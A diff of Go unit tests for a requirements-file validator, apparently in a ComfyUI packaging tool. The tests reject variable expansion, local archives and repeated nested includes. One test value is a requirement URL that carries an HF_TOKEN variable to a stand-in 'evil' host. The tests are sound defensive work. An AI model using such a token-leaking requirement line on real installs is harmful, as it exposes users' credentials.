@@ -2,6 +2,7 @@ package reqfile
 
 import (
 	"errors"
+	"fmt"
 	"github.com/comfy-image/comfy-image/internal/testsupport"
 	"os"
 	"path/filepath"
@@ -53,6 +54,11 @@ func TestCheck(t *testing.T) {
 		"pkg${HF_TOKEN}":                     "${",
 		"x @ https://evil/${HF_TOKEN}/x.whl": "${",
 		"not a requirement!":                 "not a requirement",
+		// pip installs an archive named like this from its working
+		// directory (the user's) when such a file is there.
+		"demo_b-1.0-py3-none-any.whl": "local",
+		"secrets.tar.GZ":              "local",
+		"pkg.zip":                     "local",
 	} {
 		if _, err := Check(line); err == nil || !strings.Contains(err.Error(), why) {
 			t.Errorf("Check(%q) = %v; want an error about %q", line, err, why)
@@ -180,5 +186,57 @@ func TestOverride(t *testing.T) {
 	}
 	if len(applied) != 2 || applied[0].From != "OpenCV_Python>=4.5" || applied[0].To != headless || applied[1].To != "" || applied[1].Num != 3 {
 		t.Fatalf("applied %+v", applied)
+	}
+}
+
+// countingSource counts the reads of each file of a mapSource.
+type countingSource struct {
+	mapSource
+	reads map[string]int
+}
+
+func (c countingSource) ReadFile(name string) ([]byte, error) {
+	c.reads[name]++
+	return c.mapSource.ReadFile(name)
+}
+
+// A node's requirements may include the same file many times over several
+// levels (no loop): each file is read and inlined once, so a few small
+// files cannot make the parser do billions of reads (a hang that ignores
+// Ctrl-C: 20 includes over 7 levels is 20^7 reads).
+func TestParseReadsEachIncludedFileOnce(t *testing.T) {
+	files := mapSource{"requirements.txt": "numpy\n" + strings.Repeat("-r a1.txt\n", 5)}
+	for i := 1; i < 5; i++ {
+		files[fmt.Sprintf("a%d.txt", i)] = strings.Repeat(fmt.Sprintf("-r a%d.txt\n", i+1), 5)
+	}
+	files["a5.txt"] = "scipy\n"
+	src := countingSource{files, map[string]int{}}
+	lines, err := Parse(src, "node wide", "requirements.txt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, l := range lines {
+		got = append(got, l.Name)
+	}
+	if strings.Join(got, " ") != "numpy scipy" {
+		t.Errorf("requirements %v, want numpy scipy", got)
+	}
+	for name, n := range src.reads {
+		if n != 1 {
+			t.Errorf("%s read %d times, want once", name, n)
+		}
+	}
+}
+
+// A requirements file saved with a UTF-8 byte order mark (Windows editors)
+// is read as pip reads it, not refused for its first line.
+func TestParseIgnoresByteOrderMark(t *testing.T) {
+	lines, err := Parse(mapSource{"r.txt": "\ufeffnumpy\r\nscipy\r\n"}, "node bom", "r.txt")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(lines) != 2 || lines[0].Name != "numpy" || lines[0].Num != 1 || lines[1].Name != "scipy" {
+		t.Errorf("got %+v, want numpy (line 1), scipy", lines)
 	}
 }
